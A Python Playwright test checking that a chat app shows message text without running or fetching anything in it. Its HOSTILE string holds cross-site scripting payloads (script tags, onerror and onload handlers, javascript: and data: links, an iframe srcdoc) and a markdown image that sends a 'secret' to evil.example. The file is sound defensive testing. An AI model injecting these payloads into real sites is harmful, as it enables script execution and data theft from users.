"""What a message says is shown and never run, also where no content security policy helps: under plain app.py."""

from collections.abc import Callable

import httpx
import pytest
from playwright.sync_api import Page, expect

from tests.helpers.browser import App
from tests.helpers.planners import add_planner

pytestmark = pytest.mark.browser

HOSTILE = """
<script>window.ran = "script"</script><img src="x" onerror="window.ran = 'image'"><svg onload="window.ran = 'svg'">

[by address](javascript:window.ran="link") [by data](data:text/html,<script>opener.ran="data"</script>)
<a href="javascript:window.ran='tag'">by tag</a> [by case](JaVaScRiPt:window.ran="case")

<iframe srcdoc="<script>parent.ran = 'frame'</script>"></iframe>

![picture](https://evil.example/?secret=1)

The end
"""


def test_nothing_that_a_message_says_is_run_or_fetched(page: Page, start_app: Callable[..., App]) -> None:
    app = start_app()
    planner = add_planner(app)
    planner.sign_in(page.context)
    with httpx.Client(base_url=f"{app.url}/api", trust_env=False, timeout=30) as program:
        program.headers["Authorization"] = f"Bearer {planner.new_token()}"
        session = program.post("/sessions", json={"title": "<b onclick=alert(1)>Bold</b>"}).json()["session_id"]
        for role in ("user", "assistant", "system"):
            answer = program.post(f"/sessions/{session}/messages", json={"role": role, "content": HOSTILE})
            assert answer.status_code == 201, answer.text
    app.kill()
    app = start_app(script="app.py")
    asked: list[str] = []
    page.on("request", lambda request: asked.append(request.url))

    page.goto(f"{app.url}/?session={session}")
    expect(page.get_by_text("The end")).to_have_count(3)
    for link in page.get_by_test_id("stMain").get_by_role("link", name="by ").all():
        link.click()

    assert page.evaluate("window.ran") is None
    assert page.evaluate("document.querySelectorAll('main iframe, [srcdoc], [onclick], [onerror]').length") == 0
    assert (
        page.evaluate("[...document.querySelectorAll('a')].filter(link => /^javascript/i.test(link.href)).length")
        == 0
    )
    assert [tab.evaluate("window.ran") for tab in page.context.pages] == [None] * len(page.context.pages)
    assert not [url for url in asked if "evil.example" in url]
    expect(page.get_by_text("<b onclick=alert(1)>Bold</b>").first).to_be_attached()
